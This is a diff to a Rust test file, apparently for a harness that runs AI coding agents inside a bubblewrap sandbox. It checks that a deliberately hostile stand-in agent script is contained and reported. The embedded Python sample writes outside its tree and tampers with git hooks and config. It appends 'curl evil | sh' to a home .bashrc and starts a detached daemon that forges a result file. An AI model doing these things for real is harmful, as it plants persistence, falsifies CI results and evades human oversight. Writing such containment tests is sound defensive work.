@@ -46,7 +46,7 @@ fn bwrap_usable() -> bool {
 /// this script; then it does the stage's real work (a reproduction test, the fix).
 const HOSTILE_PY: &str = r##"
 import glob, json, os, pathlib, subprocess, sys
-tag, user_repo, cache = sys.argv[1], sys.argv[2], sys.argv[3]
+tag, user_repo, cache, real_home = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4]
 here = pathlib.Path(__file__).resolve().parent
 stage = os.environ["FIXCI_STAGE"]
 sd = pathlib.Path(os.environ["FIXCI_STAGE_DIR"])
@@ -76,6 +76,7 @@ if os.path.isfile(".git"):
     admin = open(".git").read().split("gitdir:", 1)[1].strip()
     write("worktree's commondir", f"{admin}/commondir", "/tmp/elsewhere\n")
 write("beside the spec", here / "planted", "x")
+write("home", f"{real_home}/.bashrc", "curl evil | sh\n", "a")
 daemon = f": {tag}; sleep 3; echo '{{\"status\": \"forged\"}}' > '{rd}/result.json'; echo pwned > '{user_repo}/README.md'; touch '{here}/forged'"
 subprocess.Popen(["setsid", "sh", "-c", daemon], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
 (sd / "attempts.json").write_text(json.dumps(found))
@@ -94,7 +95,7 @@ fn hostile_job(e: &TestEnv, tag: &str, sandbox: &str) -> PathBuf {
         "prompt": "test_mean fails in CI. Fix it.",
         "raw-logs": CI_LOG,
         "repo": e.repo.display().to_string(),
-        "agent": {"command": ["python3", "hostile.py", tag, e.repo.display().to_string(), e.root.join("cache").display().to_string()]},
+        "agent": {"command": ["python3", "hostile.py", tag, e.repo.display().to_string(), e.root.join("cache").display().to_string(), e.root.join("home").display().to_string()]},
         "budgets": {"reproduce": "60s", "fix": "60s"},
         "sandbox": sandbox,
     });
@@ -153,8 +154,9 @@ fn a_sandboxed_agent_sees_no_other_process_writes_nothing_outside_its_tree_and_l
         let pids: Vec<u64> = a["pids"].as_array().unwrap().iter().map(|p| p.as_u64().unwrap()).collect();
         assert!(pids.iter().all(|p| *p < 10), "{stage}: the agent saw pids {pids:?}");
         assert_eq!(a["environ_token"], false, "{stage}: the agent read the token from /proc");
+        // The writes seem to succeed: they land in a throw-away layer.
         for (what, how) in a["writes"].as_object().unwrap() {
-            assert!(how.as_str().unwrap().starts_with("refused"), "{stage}: {what}: {how}");
+            assert_eq!(how, "done", "{stage}: {what}");
         }
     }
     // The daemons' later writes never happen: they died with their sandboxes.
@@ -165,16 +167,39 @@ fn a_sandboxed_agent_sees_no_other_process_writes_nothing_outside_its_tree_and_l
     assert_eq!(std::fs::read(e.repo.join(".git/config")).unwrap(), config_before);
     assert!(!e.repo.join("README.md").exists() && !e.repo.join(".git/hooks/post-checkout").exists());
     assert_eq!(git(&e.repo, &["status", "--porcelain"]), "");
+    assert!(!e.root.join("home/.bashrc").exists());
     // Each daemon is named in the report and the state, with the stage that started it.
     let report = std::fs::read_to_string(run.join("report.md")).unwrap();
     let section = &report[report.find("## Containment").unwrap()..];
     assert!(section.contains("Agents ran under bubblewrap"), "{section}");
+    assert!(section.contains("`/proc/*/environ`"), "{section}");
+    // Each write outside the sandbox's places is named, with the stage that tried it.
+    let canon = |p: PathBuf| std::fs::canonicalize(&p).unwrap_or(p).display().to_string();
+    let repo = canon(e.repo.clone());
+    let root = canon(e.root.clone());
+    let run_c = canon(run.clone());
+    for stage in ["`reproduce`", "`fix` (attempt 1)"] {
+        let from = section.find(&format!("stage {stage} tried to write outside its sandbox")).unwrap_or_else(|| panic!("{stage}\n{section}"));
+        let block = section[from..].split("\n\n").nth(1).unwrap();
+        for named in [
+            format!("`{repo}/README.md (created)`"),
+            format!("`{repo}/.git/config (written)`"),
+            format!("`{repo}/.git/hooks/post-checkout (created)`"),
+            format!("`{run_c}/state.json (written)`"),
+            format!("`{root}/cache/planted (created)`"),
+            format!("`{root}/planted (created)`"),
+            format!("`{root}/home/.bashrc (created)`"),
+        ] {
+            assert!(block.contains(&named), "{stage}: {named}\n{block}");
+        }
+    }
     for row in ["| reproduce | - | after the agent |", "| fix | 1 | after the agent |"] {
         assert!(section.lines().any(|l| l.starts_with(row) && l.contains("(in the sandbox)") && l.contains(&tag)), "{row}\n{section}");
     }
     let c = &result(&run)["containment"];
     assert_eq!(c["sandbox"]["mode"], "bwrap");
     assert!(c["run_dir_changes"].as_array().unwrap().is_empty(), "{c}");
+    assert_eq!(c["discarded_writes"].as_array().unwrap().len(), 2, "{c}");
 }
 
 #[test]
